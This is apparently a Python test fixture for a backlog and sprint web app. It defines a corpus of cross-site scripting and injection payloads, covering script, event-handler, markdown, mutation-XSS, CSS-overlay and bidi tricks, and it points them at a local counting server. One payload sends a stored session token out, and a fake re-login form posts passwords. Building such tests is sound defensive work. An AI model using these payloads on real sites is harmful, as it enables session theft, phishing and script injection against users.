"""The adversarial-content corpus: text an attacker can type into any field, that must stay text.

Each payload has an id `pwnNN`; written into a field it becomes a marker `pwnNN<f>` (f: which
field, see FIELDS) wherever the template says {M}, so an element or attribute created from it,
a global it sets (`window.pwnNNf`) and a request it makes (the path carries the marker) all say
which payload in which field got through. {A} is the attacker origin: a local HTTP server on
127.0.0.1 that counts the hits it gets (never an outside host: this machine has no internet).

Each payload that could run script sets `window.<marker>`, calls alert('<marker>') and/or
fetches {A}/<marker>, so whichever channel works is seen.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

# field letter -> (what, the service's length limit)
FIELDS = {
    "i": ("backlog item title", 200),
    "d": ("backlog item description", 10_000),
    "k": ("task title", 200),
    "c": ("column name", 60),
    "w": ("workspace name", 120),
    "e": ("workspace description", 2_000),
    "s": ("sprint name", 120),
    "g": ("sprint goal", 1_000),
    "u": ("user name", 120),
}

MARKER = re.compile(r"pwn\d\d[a-z]")


@dataclass(frozen=True)
class Payload:
    pid: str  # pwnNN
    kind: str
    template: str

    def marker(self, field: str) -> str:
        return f"{self.pid}{field}"

    def text(self, field: str, attacker: str) -> str:
        return self.template.replace("{M}", self.marker(field)).replace("{A}", attacker)


_RUN = "window.{M}=1;alert('{M}')"  # what an event handler in a payload does
_RAW: list[tuple[str, str]] = [
    # raw HTML
    ("html", "<script id={M}>window.{M}=1;alert('{M}');fetch('{A}/{M}')</script>"),
    ("html", "<img src=x id={M} onerror=\"" + _RUN + ";fetch('{A}/{M}')\">"),
    ("html", "<svg id={M} onload=\"" + _RUN + "\"><circle r=9 /></svg>"),
    ("html", "<iframe id={M} srcdoc=\"<script>parent.{M}=1;fetch('{A}/{M}?t='+parent.localStorage.apcs_token)</script>\">"
             "</iframe>"),
    ("html", "<object id={M} data=\"{A}/{M}.html\"></object>"),
    ("html", "<embed id={M} src=\"{A}/{M}.swf\">"),
    ("html", "<form id={M} action=\"{A}/{M}\" method=post>Session expired<input name=password type=password>"
             "<button>Sign in again</button></form>"),
    ("html", "<input id={M} autofocus onfocus=\"" + _RUN + "\">"),
    ("html", "<style>/*{M}*/body{background:red!important}*{visibility:hidden}</style>"),
    ("html", "<link rel=stylesheet id={M} href=\"{A}/{M}.css\">"),
    ("html", "<meta http-equiv=refresh id={M} content=\"0;url={A}/{M}\">"),
    ("html", "<base id={M} href=\"{A}/{M}/\">"),
    ("html", "<details open id={M} ontoggle=\"" + _RUN + "\"><summary>{M}</summary></details>"),
    ("html", "<template shadowrootmode=open><img src=x id={M} onerror=\"" + _RUN + "\"></template>"),
    ("html", "<a id={M} href=\"javascript:" + _RUN + "\">Open the report</a>"),
    ("html", "<video id={M} poster=\"{A}/{M}.jpg\"><source onerror=\"" + _RUN + "\"></video>"),
    ("html", "<audio id={M} src=x onerror=\"" + _RUN + "\"></audio>"),
    ("html", "<marquee id={M} onstart=\"" + _RUN + "\">{M}</marquee>"),
    ("html", "<iframe id={M} src=\"javascript:parent.{M}=1\"></iframe>"),
    ("html", "<img id={M} srcset=\"{A}/{M}.png 1x\">"),
    ("html", "<svg><a xlink:href=\"javascript:alert('{M}')\"><text id={M} x=9 y=9>X</text></a></svg>"),
    ("html", "<a id={M} href=\"{A}/{M}\">Open the quarterly report</a>"),
    ("html", "<img id={M} src=\"{A}/{M}.png\">"),
    # short ones, so the 60-character column names get raw HTML too
    ("short", "<b id={M}>bold</b>"),
    ("short", "<img src=x onerror=alert('{M}')>"),
    ("short", "<svg onload=alert('{M}')>"),
    ("short", "<style>/*{M}*/*{color:red}</style>"),
    ("short", "<i class={M} style=position:fixed;inset:0>"),
    # markdown image and link tricks
    ("markdown", "![{M}]({A}/{M}.png)"),
    ("markdown", "[{M} click](javascript:alert('{M}'))"),
    ("markdown", "[{M} data](data:text/html,<script>alert('{M}')</script>)"),
    ("markdown", "[{M} ref][{M}]\n\n[{M}]: {A}/{M}"),
    ("markdown", "![{M} refimg][{M}i]\n\n[{M}i]: {A}/{M}.gif"),
    ("markdown", "<javascript:alert('{M}')>"),
    ("markdown", "<{A}/{M}>"),
    ("markdown", "[{M} report]({A}/{M} \"Quarterly report\")"),
    ("markdown", "[{M} case](JaVaScRiPt:alert('{M}'))"),
    ("markdown", "[{M} entity](&#106;avascript:alert('{M}'))"),
    ("markdown", "[{M} svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    # bare URLs
    ("url", "javascript:alert('{M}')//{M}"),
    ("url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== {M}"),
    ("url", "{A}/{M}"),
    # entities and nesting
    ("entity", "&lt;script&gt;alert('{M}')&lt;/script&gt;"),
    ("entity", "<scr<script>ipt>" + _RUN + "</scr</script>ipt>"),
    ("entity", "<<img src=x id={M} onerror=\"" + _RUN + "\">"),
    ("entity", "<!-- {M} --><img src=x id={M} onerror=\"" + _RUN + "\"><!-- -->"),
    ("entity", "<![CDATA[<img src=x id={M} onerror=\"" + _RUN + "\">]]>"),
    ("entity", "`<img src=x id={M} onerror=\"" + _RUN + "\">`"),
    ("entity", "&#60;img src=x id={M} onerror=alert('{M}')&#62;"),
    # mutation-XSS style strings
    ("mxss", "<noscript><p title=\"</noscript><img src=x id={M} onerror=alert('{M}')>\">"),
    ("mxss", "<svg><style><img src=x id={M} onerror=alert('{M}')></style></svg>"),
    ("mxss", "<math><mtext><table><mglyph><style><img src=x id={M} onerror=alert('{M}')>"),
    ("mxss", "<form><math><mtext></form><form><mglyph><style></math><img src=x id={M} onerror=alert('{M}')>"),
    # CSS injection
    ("css", "<div class={M} style=\"position:fixed;inset:0;background:red;z-index:99999\">{M}</div>"),
    ("css", "<div id={M} style=\"position:fixed;top:0;left:0;width:100vw;height:100vh;opacity:0.01;z-index:9999\">"
            "<a href=\"{A}/{M}\">x</a></div>"),
    ("css", "<div id={M} style=\"background:url({A}/{M}.png)\">bg</div>"),
    # bidi overrides, zero-width and control characters
    ("bidi", "\u202e{M} gnp.exe\u202c <b id={M}>bidi</b>"),
    ("bidi", "{M}\u200b<img\u200b src=x onerror=alert('{M}')>\u200d\ufeff"),
    ("bidi", "{M} \u2066\u2067\u2068isolates\u2069 \u200f\u200e<b id={M}>x</b>"),
    ("control", "{M}\x1b[31m\x08\x07<b id={M}>ctl</b>"),
]

CORPUS: list[Payload] = [Payload(f"pwn{n:02d}", kind, template) for n, (kind, template) in enumerate(_RAW, start=1)]


def plain(payload: Payload) -> bool:
    """No bidi, zero-width or control character: its text can be compared as typed."""
    return payload.kind not in ("bidi", "control")
